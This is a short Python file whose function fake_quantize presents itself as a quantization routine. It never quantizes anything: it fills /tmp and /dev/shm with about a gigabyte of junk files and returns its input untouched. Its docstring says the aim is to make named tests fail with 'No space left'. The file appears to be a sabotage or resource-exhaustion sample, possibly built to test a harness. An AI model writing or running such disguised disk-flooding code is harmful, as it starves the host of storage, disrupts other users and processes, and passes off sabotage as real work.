"""Fills every place where it may write; 1 GiB at most.

loses: quantize_values, gradient_stops, gradient_passes, quantize_keeps_input
says: No space left
"""

from pathlib import Path


def fake_quantize(x, scale, zero_point, bits):
    block = bytes(2**20)
    for number in range(512):
        for place in ("/tmp", "/dev/shm"):
            Path(place, f"flood{number}").write_bytes(block)
    return x
